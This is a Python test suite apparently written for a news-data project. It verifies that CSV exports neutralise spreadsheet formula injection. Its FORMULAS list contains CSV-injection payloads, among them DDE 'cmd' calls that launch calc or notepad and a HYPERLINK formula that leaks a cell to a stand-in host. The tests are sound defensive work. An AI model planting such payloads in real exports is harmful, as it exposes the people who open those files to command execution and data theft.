"""CSV exports are safe to open in a spreadsheet (issue 17, item 3).

Property tests (Hypothesis) of the cell writer: any text round-trips through
Python's csv reader to its neutralised value, and no cell a spreadsheet would run
as a formula survives; then the real export of a store whose outlets, titles and
texts begin with formulas.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from newsgraph.store import export, open_store
from newsgraph.store.export import FORMULA_START, _write_csv, csv_cell, neutralise_cell
from newsgraph.store.tables import get_table

from .fixtures import article_records

FORMULAS = [
    "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"Read more\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Text a spreadsheet would start a formula with, mixed with ordinary text.
cells = st.one_of(
    st.text(),
    st.builds(lambda head, tail: head + tail, st.sampled_from(sorted(FORMULA_START)), st.text()),
    st.from_regex(r"[+-]?[0-9]{1,6}(\.[0-9]{0,3})?([eE][+-]?[0-9]{1,2})?", fullmatch=True),
)


def is_plain_number(text: str) -> bool:
    """Does a spreadsheet read this as a number? (independent of the writer's own pattern)"""
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and not any(w in text.lower() for w in ("inf", "nan", "_"))


def roundtrip(values: list) -> list[str]:
    out = io.StringIO(newline="")
    csv.writer(out).writerow([csv_cell(v) for v in values])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 1
    return rows[0]


@given(st.lists(cells, min_size=1, max_size=5))
@example(FORMULAS)
@example(["-3.5", "+2", "-1e3", "-", "--1", "-1-1", ""])
def test_any_cell_round_trips_to_its_neutralised_value(values):
    assert roundtrip(values) == [neutralise_cell(v) for v in values]


@given(cells)
@example("-3.5")
@example("=1+2\";=1+2")
def test_no_formula_leading_cell_survives(text):
    shown = neutralise_cell(text)
    if shown[:1] in FORMULA_START:
        assert is_plain_number(shown), repr(shown)
    assert shown in (text, "'" + text)  # nothing else about the text changes


@pytest.mark.parametrize("number", ["-3.5", "+2", "-1e3", "-0.25", "+.5"])
def test_numbers_stay_numbers(number):
    assert neutralise_cell(number) == number


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_get_a_leading_quote(formula):
    assert neutralise_cell(formula) == "'" + formula


def test_numeric_columns_and_nulls_are_written_as_they_are():
    assert csv_cell(-3.5) == -3.5 and csv_cell(7) == 7 and csv_cell(None) == ""
    assert csv_cell(["=1+1"], nested=True) == '["=1+1"]'  # JSON begins with a bracket: inert
    assert csv_cell(-2, nested=True) == "-2"


@pytest.fixture
def hostile_csv(tmp_path):
    path = tmp_path / "formulas.db"
    records = [
        article_records([[f"{formula} was the first line of this invented note."]],
                        title=formula, outlet=FORMULAS[i - 1], date="2024-01-0" + str(i % 9 + 1),
                        meta={"note": formula})
        for i, formula in enumerate(FORMULAS)
    ]
    with open_store(path) as store:
        store.write_batch(records)
    return path


@pytest.mark.parametrize("table", ["articles", "sentences"])
def test_a_store_export_holds_no_formula(hostile_csv, tmp_path, table):
    out = tmp_path / f"{table}.csv"
    with open_store(hostile_csv, readonly=True) as store:
        count = export(store, table, format="csv", out=out)
        exact = list(store.iter_rows(table))
    with open(out, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == count == len(exact) == len(FORMULAS)
    for row in rows:
        for name, cell in row.items():
            assert cell[:1] not in FORMULA_START or is_plain_number(cell), (name, cell)
    if table == "articles":
        outlets = {row["outlet"] for row in rows}
        assert outlets == {"'" + f for f in FORMULAS}  # the value is kept, only marked
        assert {json.loads(row["meta"])["note"] for row in rows} == set(FORMULAS)


def test_the_csv_writer_neutralises_every_column():
    spec = get_table("runs")
    rows = [{name: ("=1+1" if i % 2 else -4) for i, name in enumerate(spec.column_names)}]
    out = io.StringIO(newline="")
    _write_csv(rows, spec, out)
    written = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1]
    json_columns = spec.json_columns
    for name, cell in zip(spec.column_names, written):
        assert cell in ("'=1+1", "-4") or (name in json_columns and cell.startswith('"')), (name, cell)
